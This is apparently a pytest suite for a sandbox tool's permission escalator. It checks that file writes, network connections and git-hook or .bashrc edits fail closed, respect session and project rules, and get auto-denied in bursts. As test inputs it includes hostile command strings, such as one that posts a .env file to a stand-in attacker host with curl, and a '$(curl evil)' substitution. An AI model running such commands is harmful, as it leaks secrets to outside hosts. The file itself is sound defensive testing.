"""The escalator: fail-closed prompts, session memory, project rules, burst limits (A06, A09, TT1)."""

from __future__ import annotations

import threading
from collections.abc import Iterator, Mapping
from pathlib import Path

import pytest

from boundary.violations import Violation, ViolationKind
from corral.decision import Decision, PromptAnswer, PromptRequest, Scope
from corral.denials import denial_lines
from corral.escalation import BurstPolicy, DecidedBy, Escalator, OnViolation
from corral.ledger import Ledger
from corral.recording import CommandRecord, CommandRecorder
from corral.rules import RuleStore
from corral.session_memory import SessionMemory

ONCE = Decision(Scope.ONCE)
SESSION = Decision(Scope.SESSION)
PROJECT = Decision(Scope.PROJECT)
DENY = Decision(Scope.DENY)


@pytest.fixture
def home(isolated_home: Path) -> Path:
    return isolated_home


@pytest.fixture
def project(home: Path) -> Path:
    path = home / "proj"
    path.mkdir(parents=True)
    return path


@pytest.fixture
def rules(tmp_path: Path) -> Iterator[RuleStore]:
    store = RuleStore.open(tmp_path / "data" / "rules.sqlite3")
    yield store
    store.close()


class Recorder:
    """An ask callback that records requests and returns a scripted answer."""

    def __init__(self, answer: object = ONCE) -> None:
        self.answer = answer
        self.requests: list[PromptRequest] = []

    def __call__(self, request: PromptRequest) -> PromptAnswer:
        self.requests.append(request)
        if isinstance(self.answer, BaseException):
            raise self.answer
        if callable(self.answer):
            return self.answer(request)  # type: ignore[no-any-return]
        return self.answer  # type: ignore[return-value]


def write(path: Path | str) -> Violation:
    return Violation(ViolationKind.FS_WRITE, str(path), "create")


def host(name: str) -> Violation:
    return Violation(ViolationKind.NET, name, "connect")


def make(rules: RuleStore | None, ask: Recorder | None, **kwargs: object) -> Escalator:
    return Escalator(
        rules,
        SessionMemory(),
        ask,
        timeout_s=float(kwargs.pop("timeout_s", 5.0)),  # type: ignore[arg-type]
        frontend_name="test",
        **kwargs,  # type: ignore[arg-type]
    )


# --- fail closed -------------------------------------------------------------------------------------


def test_no_callback_denies(project: Path, home: Path) -> None:
    escalator = make(None, None)
    result = escalator.decide("touch ~/x", project, [write(home / "x")])
    assert result == {write(home / "x"): DENY}
    assert escalator.take_records()[0].decided_by == DecidedBy.NO_FRONTEND


def test_callback_exception_denies(project: Path, home: Path) -> None:
    ask = Recorder(RuntimeError("front end crashed"))
    escalator = make(None, ask)
    assert escalator.decide("cmd", project, [write(home / "x")])[write(home / "x")] == DENY
    assert escalator.take_records()[0].decided_by == DecidedBy.ERROR
    assert any("front end crashed" in notice for notice in escalator.notices)


def test_timeout_denies_and_cancels(project: Path, home: Path) -> None:
    seen: list[PromptRequest] = []

    def slow(request: PromptRequest) -> PromptAnswer:
        seen.append(request)
        request.cancelled.wait(10)
        return ONCE  # too late: must be ignored

    escalator = Escalator(None, SessionMemory(), slow, timeout_s=0.2, frontend_name="test")
    result = escalator.decide("cmd", project, [write(home / "x")])
    assert result[write(home / "x")] == DENY
    assert seen[0].cancelled.is_set()
    assert escalator.take_records()[0].decided_by == DecidedBy.TIMEOUT


@pytest.mark.parametrize(
    "garbage",
    [None, "allow", True, 1, Scope.ONCE, [ONCE], {"x": ONCE}, Decision("yes")],  # type: ignore[arg-type]
)
def test_garbage_answer_denies(project: Path, home: Path, garbage: object) -> None:
    escalator = make(None, Recorder(garbage))
    assert escalator.decide("cmd", project, [write(home / "x")])[write(home / "x")] == DENY


def test_per_violation_answer_missing_entry_denied(project: Path, home: Path) -> None:
    a, b = write(home / "a"), write(home / "b")
    escalator = make(None, Recorder({a: ONCE}))
    assert escalator.decide("cmd", project, [a, b]) == {a: ONCE, b: DENY}


def test_mapping_that_raises_denies(project: Path, home: Path) -> None:
    class Broken(Mapping[Violation, Decision]):
        def __getitem__(self, key: Violation) -> Decision:
            raise RuntimeError("boom")

        def __iter__(self) -> Iterator[Violation]:
            return iter(())

        def __len__(self) -> int:
            return 1

    escalator = make(None, Recorder(Broken()))
    assert escalator.decide("cmd", project, [write(home / "a")])[write(home / "a")] == DENY


def test_on_violation_deny_never_asks(project: Path, home: Path, rules: RuleStore) -> None:
    ask = Recorder(ONCE)
    escalator = make(rules, ask, on_violation=OnViolation.DENY)
    assert escalator.decide("cmd", project, [write(home / "a")])[write(home / "a")] == DENY
    assert ask.requests == []


def test_on_violation_deny_still_honours_rules(project: Path, home: Path, rules: RuleStore) -> None:
    rules.add(project, ViolationKind.FS_WRITE, str(home / "a"))
    escalator = make(rules, None, on_violation=OnViolation.DENY)
    assert escalator.decide("cmd", project, [write(home / "a")])[write(home / "a")].allows


# --- one prompt, session memory -----------------------------------------------------------------------


def test_one_prompt_per_command_with_all_violations(project: Path, home: Path) -> None:
    ask = Recorder(ONCE)
    escalator = make(None, ask)
    violations = [write(home / "a"), write(home / "b"), host("pypi.org:443")]
    result = escalator.decide("cmd", project, violations)
    assert len(ask.requests) == 1
    assert set(ask.requests[0].violations) == set(violations)
    assert ask.requests[0].command == "cmd"
    assert all(d == ONCE for d in result.values())


def test_once_is_asked_again(project: Path, home: Path) -> None:
    ask = Recorder(ONCE)
    escalator = make(None, ask)
    escalator.decide("cmd", project, [write(home / "a")])
    escalator.decide("cmd", project, [write(home / "a")])
    assert len(ask.requests) == 2


@pytest.mark.parametrize("answer", [SESSION, DENY])
def test_session_decision_not_asked_again(project: Path, home: Path, answer: Decision) -> None:
    ask = Recorder(answer)
    escalator = make(None, ask)
    escalator.decide("first", project, [write(home / "a")])
    ask.answer = ONCE if answer == DENY else DENY
    second = escalator.decide("second", project, [write(home / "a"), write(home / "b")])
    assert second[write(home / "a")] == answer
    assert ask.requests[1].violations == (write(home / "b"),)
    records = escalator.take_records()
    assert [r.decided_by for r in records[1:]] == [DecidedBy.SESSION, DecidedBy.PERSON]


def test_session_memory_is_per_session(project: Path, home: Path) -> None:
    ask = Recorder(SESSION)
    make(None, ask).decide("cmd", project, [write(home / "a")])
    make(None, ask).decide("cmd", project, [write(home / "a")])
    assert len(ask.requests) == 2


def test_sensitive_session_allow_bound_to_content(project: Path) -> None:
    hook = Violation(ViolationKind.FS_PROTECTED, str(project / ".git/hooks/pre-commit"), "create")
    ask = Recorder(SESSION)
    escalator = make(None, ask)
    escalator.decide("c1", project, [hook], fingerprints={hook: "sha256:aaa"})
    escalator.decide("c2", project, [hook], fingerprints={hook: "sha256:aaa"})
    assert len(ask.requests) == 1
    escalator.decide("c3", project, [hook], fingerprints={hook: "sha256:bbb"})  # swapped content (TT1)
    assert len(ask.requests) == 2
    escalator.decide("c4", project, [hook])  # no fingerprint: asked again
    assert len(ask.requests) == 3


# --- project rules --------------------------------------------------------------------------------------


def test_project_rule_stops_prompt_for_that_path_only(
    tmp_path: Path, project: Path, home: Path, rules: RuleStore
) -> None:
    ask = Recorder(PROJECT)
    make(rules, ask).decide("touch ~/x", project, [write(home / "x")])
    assert len(ask.requests) == 1

    ask.answer = DENY
    later = make(rules, ask)  # a new session: no memory
    assert later.decide("touch ~/x", project, [write(home / "x")])[write(home / "x")] == PROJECT
    assert len(ask.requests) == 1
    assert later.take_records()[0].decided_by == DecidedBy.RULE

    later.decide("touch ~/y", project, [write(home / "y")])  # other path
    assert len(ask.requests) == 2
    other = tmp_path / "other"
    other.mkdir()
    later.decide("touch ~/x", other, [write(home / "x")])  # other project
    assert len(ask.requests) == 3


def test_directory_rule_boundary(project: Path, home: Path, rules: RuleStore) -> None:
    rules.add(project, ViolationKind.FS_WRITE, str(home / "out"), directory=True)
    ask = Recorder(DENY)
    escalator = make(rules, ask, burst=BurstPolicy(max_denials=100))
    inside = [write(home / "out"), write(home / "out" / "a"), write(home / "out" / "d" / "e")]
    assert all(d.allows for d in escalator.decide("c", project, inside).values())
    assert ask.requests == []
    outside = write(home / "outer" / "a")
    assert escalator.decide("c", project, [outside])[outside] == DENY
    assert escalator.decide("c", project, [write(home / "outx")])[write(home / "outx")] == DENY
    assert len(ask.requests) == 2


def test_sensitive_project_rule_needs_confirmation(project: Path, home: Path, rules: RuleStore) -> None:
    rc = write(home / ".bashrc")
    ask = Recorder(PROJECT)
    escalator = make(rules, ask)
    result = escalator.decide("echo >> ~/.bashrc", project, [rc])
    assert result[rc] == DENY
    assert ask.requests[0].sensitive == frozenset({rc})
    assert "every new shell" in ask.requests[0].reasons[rc.target]
    assert rules.list(project) == []
    assert escalator.take_records()[0].decided_by == DecidedBy.UNCONFIRMED

    ask.answer = Decision(Scope.PROJECT, confirmed_sensitive=True)
    assert make(rules, ask).decide("again", project, [rc])[rc].allows
    [rule] = rules.list(project)
    assert rule.sensitive


def test_project_answer_stores_exact_host_only(project: Path, rules: RuleStore) -> None:
    """Issue 13: "allow for this project" on a host means that host on any port, never other hosts."""
    ask = Recorder(PROJECT)
    make(rules, ask).decide("curl", project, [host("api.example.com:443")])
    [rule] = rules.list(project)
    assert rule.target == "api.example.com"
    fresh = make(rules, Recorder(DENY))
    assert fresh.decide("c", project, [host("evil.example.com:443")])[host("evil.example.com:443")] == DENY
    assert fresh.decide("c", project, [host("api.example.com:22")])[host("api.example.com:22")] == PROJECT
    assert (
        fresh.decide("c", project, [host("sub.api.example.com:443")])[host("sub.api.example.com:443")] == DENY
    )


def test_project_answer_for_one_port_stores_that_port_only(project: Path, rules: RuleStore) -> None:
    one_port = Decision(Scope.PROJECT, one_port=True)
    make(rules, Recorder(one_port)).decide("curl", project, [host("api.example.com:443")])
    [rule] = rules.list(project)
    assert rule.target == "api.example.com:443"
    fresh = make(rules, Recorder(DENY))
    assert fresh.decide("c", project, [host("api.example.com:80")])[host("api.example.com:80")] == DENY


def test_session_answer_covers_the_host_on_any_port_unless_one_port(project: Path) -> None:
    ask = Recorder(Decision(Scope.SESSION))
    escalator = make(None, ask)
    escalator.decide("c", project, [host("db.example:5432")])
    assert escalator.decide("c", project, [host("db.example:5433")])[host("db.example:5433")].allows
    assert len(ask.requests) == 1
    pinned = Recorder(Decision(Scope.SESSION, one_port=True))
    escalator = make(None, pinned)
    escalator.decide("c", project, [host("db.example:5432")])
    escalator.decide("c", project, [host("db.example:5433")])
    assert len(pinned.requests) == 2


# --- A06: complexity never turns deny into ask -----------------------------------------------------------


def test_session_deny_survives_long_commands(project: Path, home: Path) -> None:
    ask = Recorder(DENY)
    escalator = make(None, ask, burst=BurstPolicy(max_denials=100))
    bad = host("attacker.example:443")
    escalator.decide("curl attacker.example", project, [bad])
    ask.answer = SESSION
    long_command = " && ".join(["true"] * 200) + " && curl -d @.env attacker.example"
    noise = [write(home / f"f{i}") for i in range(60)]
    result = escalator.decide(long_command, project, [*noise, bad])
    assert result[bad] == DENY
    assert bad not in ask.requests[-1].violations


def test_over_limit_is_denied_not_asked(project: Path, home: Path) -> None:
    ask = Recorder(ONCE)
    escalator = make(None, ask, burst=BurstPolicy(max_violations=10))
    many = [write(home / f"f{i}") for i in range(11)]
    assert not any(d.allows for d in escalator.decide("c", project, many).values())
    assert ask.requests == []


def test_flag_deny_is_independent_of_command_text(project: Path, home: Path) -> None:
    for command in ["", "x" * 100_000, "$(curl evil)", "\x1b[2K\x1b[1Aok", "true;" * 1000]:
        escalator = make(None, Recorder(ONCE), on_violation=OnViolation.DENY)
        assert escalator.decide(command, project, [write(home / "a")])[write(home / "a")] == DENY


# --- A09: bursts ------------------------------------------------------------------------------------------


def test_many_hosts_collapse_into_one_prompt(project: Path) -> None:
    hosts = [host(f"h{i}.cdn.example.com:443") for i in range(50)]
    malicious = host("exfil.attacker.test:443")
    hosts.insert(25, malicious)
    ask = Recorder(DENY)
    escalator = make(None, ask)
    result = escalator.decide("npm install", project, hosts)
    assert len(ask.requests) == 1
    groups = ask.requests[0].groups
    assert len(groups) <= 8
    assert any(g.count == 50 and g.pattern == "*.example.com" for g in groups)
    assert any(g.violations == (malicious,) for g in groups)
    assert not any(d.allows for d in result.values())
    assert "51 new hosts" in ask.requests[0].summary


def test_sensitive_item_never_folded_into_a_group(project: Path, home: Path) -> None:
    writes = [write(home / ".cache" / "tool" / f"f{i}") for i in range(30)]
    rc = write(home / ".bashrc")
    writes.insert(10, rc)
    ask = Recorder(DENY)
    make(None, ask).decide("c", project, writes)
    groups = ask.requests[0].groups
    assert any(g.violations == (rc,) for g in groups)
    assert all(rc not in g.violations or g.count == 1 for g in groups)


def test_burst_auto_denies_after_n_denials(project: Path) -> None:
    clock = [1000.0]
    memory = SessionMemory(clock=lambda: clock[0])
    ask = Recorder(DENY)
    escalator = Escalator(
        None, memory, ask, timeout_s=5, frontend_name="test", burst=BurstPolicy(max_denials=3, window_s=60)
    )
    hosts = [host(f"h{i}.example.org:443") for i in range(50)]
    malicious = host("exfil.attacker.test:443")
    hosts.insert(20, malicious)
    results = []
    for item in hosts:  # one live decision per connection, as the proxy asks
        clock[0] += 0.1
        results.append(escalator.decide_one("script.sh", project, item))
    assert len(ask.requests) == 3
    assert not any(d.allows for d in results)
    records = escalator.take_records()
    assert sum(r.decided_by == DecidedBy.BURST for r in records) == 48
    assert all(not r.asked for r in records[3:])

    clock[0] += 61  # the window passed: asking resumes, still never auto-accepting
    ask.answer = ONCE
    assert escalator.decide_one("script.sh", project, host("late.example.org:443")).allows
    assert len(ask.requests) == 4


def test_burst_never_accepts_even_if_person_answered_allow_before(project: Path) -> None:
    ask = Recorder(ONCE)
    escalator = make(None, ask, burst=BurstPolicy(max_denials=1))
    assert escalator.decide_one("c", project, host("a.test:443")).allows
    ask.answer = DENY
    assert not escalator.decide_one("c", project, host("b.test:443")).allows
    ask.answer = ONCE
    assert not escalator.decide_one("c", project, host("c.test:443")).allows  # burst: not asked
    assert len(ask.requests) == 2
    escalator.memory.reset_burst()
    assert escalator.decide_one("c", project, host("c.test:443")).allows


def test_concurrent_prompts_are_serialised_and_deduplicated(project: Path) -> None:
    gate = threading.Event()
    ask = Recorder(lambda request: (gate.wait(5), SESSION)[1])
    escalator = make(None, ask)
    same = host("pypi.org:443")
    results: list[Decision] = []
    threads = [
        threading.Thread(target=lambda: results.append(escalator.decide_one("c", project, same)))
        for _ in range(5)
    ]
    for thread in threads:
        thread.start()
    gate.set()
    for thread in threads:
        thread.join(10)
    assert len(ask.requests) == 1
    assert results == [SESSION] * 5


# --- stderr lines and the ledger --------------------------------------------------------------------------


def test_denial_lines_name_target_and_rule_command(
    project: Path, home: Path, monkeypatch: pytest.MonkeyPatch
) -> None:
    monkeypatch.chdir(project)
    escalator = make(None, None)
    hook = Violation(ViolationKind.FS_PROTECTED, str(project / ".git/hooks/pre-commit"), "create")
    decisions = escalator.decide("c", project, [write(home / "x"), host("evil.test:443"), hook])
    lines = denial_lines(project, decisions)
    assert lines[0] == (
        "corral: denied fs-write ~/x (to allow: corral rules add --project . --path ~/x, or rerun on a TTY)"
    )
    assert "corral rules add --project . --host evil.test" in lines[1]
    assert "--kind fs-protected --path ~/proj/.git/hooks/pre-commit --confirm-sensitive" in lines[2]
    assert lines[2].startswith("corral: denied fs-protected ~/proj/.git/hooks/pre-commit (sensitive; ")


def test_recorder_writes_the_decisions_with_the_command(tmp_path: Path, project: Path, home: Path) -> None:
    """Deciding and recording are two jobs: the escalator's records go to the ledger via the recorder."""
    ledger = Ledger.open(tmp_path / "data" / "ledger.sqlite3")
    escalator = make(None, Recorder(ONCE))
    recorder = CommandRecorder(ledger, project, "test")
    escalator.decide("touch ~/x", project, [write(home / "x")])
    record = CommandRecord("touch ~/x", project, 1.0, 5.0, 0, 1)
    assert recorder.record(record, escalator.take_records()) is None
    [row] = ledger.commands()
    assert row.session_id == recorder.session_id and row.prompted and row.classic_would_prompt
    [prompt] = ledger.prompts()
    assert (prompt.kind, prompt.scope, prompt.asked, prompt.frontend) == ("fs-write", "once", True, "test")
    assert prompt.latency_ms is not None
    assert escalator.take_records() == []
    recorder.close()


def test_a_ledger_that_fails_is_a_notice_not_an_error(tmp_path: Path, project: Path) -> None:
    ledger = Ledger.open(tmp_path / "data" / "ledger.sqlite3")
    recorder = CommandRecorder(ledger, project, "test")
    assert recorder.session_id is not None
    ledger.close()  # every later write fails
    notice = recorder.record(CommandRecord("true", project, 1.0, 1.0, 0, 0), [])
    assert notice is not None and notice.startswith("could not record the command in the ledger")
